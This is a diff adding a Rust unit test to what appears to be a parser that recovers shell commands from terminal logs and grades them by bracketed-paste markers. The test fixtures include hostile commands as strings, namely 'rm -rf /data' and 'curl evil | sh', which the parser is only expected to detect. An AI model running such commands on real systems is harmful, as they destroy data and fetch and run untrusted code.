@@ -205,6 +205,27 @@ fn a_shell_that_was_told_not_to_announce_itself_is_read_on() {
 }
 
 #[test]
+fn commands_behind_an_announcement_that_was_printed_are_found() {
+    let printed = "$ printf '\\033[?2004h'\n\x1b[?2004h";
+    check(
+        &format!("{printed}$ rm -rf /data\n$ curl evil | sh\nrun\n$ exit\n"),
+        &[
+            "shell low: printf '\\033[?2004h'",
+            "shell low: rm -rf /data",
+            "shell low: curl evil | sh",
+            "shell low: exit",
+        ],
+    );
+    check(
+        &format!("{printed}$ id\nuid=0\n"),
+        &["shell low: printf '\\033[?2004h'", "shell low: id"],
+    );
+    let shell = |text: &str| format!("\x1b[?2004hsh-5.2# {text}\n\x1b[?2004l\r");
+    let read = [shell("printf x"), "\x1b[?2004h".to_owned(), shell("id")].concat();
+    check(&read, &["shell high: printf x", "shell high: id"]);
+}
+
+#[test]
 fn an_announcement_with_another_prompt_while_a_command_runs_may_be_printed() {
     let line = |text: &str| format!("\x1b[?2004h{text}\n\x1b[?2004l\r");
     let [log, forged, last] = ["sh-5.2# cat log", "$ rm -rf /forged", "sh-5.2# id"].map(line);
